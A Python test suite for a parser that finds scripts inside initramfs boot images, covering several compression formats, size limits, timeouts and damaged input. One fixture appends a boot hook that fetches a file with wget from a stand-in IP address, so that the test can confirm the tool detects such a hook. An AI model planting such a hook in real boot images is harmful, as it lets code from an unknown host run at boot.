"""Scripts are found in every image that a kernel would unpack, and what is unread is said."""

import bz2
import gzip
import lzma
from collections.abc import Callable
from datetime import UTC, datetime

import pytest
import zstandard
from hypothesis import given
from hypothesis import strategies as st

from hemostat.parse.host.boot_image import SCRIPT_LIMIT, read_boot_image
from made_boot_image import cpio

SCRIPT = b"#!/bin/sh\necho x\n"
FILES = {"init": b"echo init\n", "bin/busybox": b"\x7fELF" + bytes(400), "usr/bin/x": SCRIPT}
IMAGE = cpio(FILES)
PACKERS: dict[str, Callable[[bytes], bytes]] = {
    "plain": bytes,
    "gzip": gzip.compress,
    "xz": lzma.compress,
    "bzip2": bz2.compress,
    "zstd": zstandard.compress,
}


def names(image: bytes) -> list[str]:
    found = read_boot_image(image)
    assert found.problem == ""
    return [script.path for script in found.scripts]


@pytest.mark.requirement("A4.9")
@pytest.mark.parametrize("pack", PACKERS.values(), ids=PACKERS)
def test_scripts_are_found_in_every_packing(pack: Callable[[bytes], bytes]) -> None:
    assert names(pack(IMAGE)) == ["/init", "/usr/bin/x"]


@pytest.mark.parametrize("pack", PACKERS.values(), ids=PACKERS)
def test_microcode_may_come_first(pack: Callable[[bytes], bytes]) -> None:
    microcode = cpio({"kernel/x86/microcode/GenuineIntel.bin": bytes(2000)})
    assert names(microcode + pack(IMAGE)) == ["/init", "/usr/bin/x"]


@pytest.mark.parametrize("pack", PACKERS.values(), ids=PACKERS)
def test_what_was_appended_is_found_too(pack: Callable[[bytes], bytes]) -> None:
    image = pack(IMAGE) + cpio({"scripts/init-bottom/zz": b"wget http://203.0.113.7/x\n"})
    assert names(image) == ["/init", "/usr/bin/x", "/scripts/init-bottom/zz"]


def test_what_boot_scripts_source_needs_no_first_line() -> None:
    sourced = ["scripts/functions", "scripts/local-top/lvm2", "usr/lib/dracut/hooks/mount/9.sh"]
    other = ["etc/fstab", "conf/initramfs.conf", "scripts"]
    found = names(cpio(dict.fromkeys([*sourced, *other], b"text\n")))
    assert found == [f"/{name}" for name in sourced]


def test_a_script_has_its_content_mode_and_time() -> None:
    (script,) = read_boot_image(cpio({"./sbin/x": SCRIPT}, mode=0o104755)).scripts
    assert script.path == "/sbin/x"
    assert script.mode == 0o4755
    assert script.content == SCRIPT
    assert script.modified == datetime.fromtimestamp(1_700_000_000, UTC)


def test_a_large_script_is_counted_as_unread() -> None:
    found = read_boot_image(cpio({"a": SCRIPT + bytes(SCRIPT_LIMIT), "b": SCRIPT}))
    assert (found.unread, [script.path for script in found.scripts]) == (1, ["/b"])


def test_it_ends_where_its_time_is_over_and_says_so() -> None:
    answers = iter([True, False])
    found = read_boot_image(IMAGE, lambda: next(answers))
    assert found.problem == "the time for it was over"
    assert len(found.scripts) == 1


@pytest.mark.parametrize(
    ("image", "problem"),
    [
        (b"", "empty"),
        (b"\x02\x21\x4c\x18" + bytes(50), "packed with lz4, which is not read"),
        (b"MZ" + bytes(50), "no cpio archive"),
        (IMAGE[:-600], "cut short"),
        (gzip.compress(IMAGE)[:-40], "damaged"),
        (bytes(1 << 17), "zeros where"),
        (b"070701" + b"Z" * 104, "damaged"),
        (b"070701" + b"F" * 104, "a name of more than"),
    ],
)
def test_damage_is_said_and_nothing_raised(image: bytes, problem: str) -> None:
    assert read_boot_image(image).problem.startswith(problem)


@given(st.binary(max_size=300), st.integers(0, len(IMAGE)))
def test_nothing_makes_it_fail(noise: bytes, place: int) -> None:
    image = IMAGE[:place] + noise + IMAGE[place + len(noise) :]
    assert read_boot_image(image).files >= 0
    assert read_boot_image(noise).scripts == []
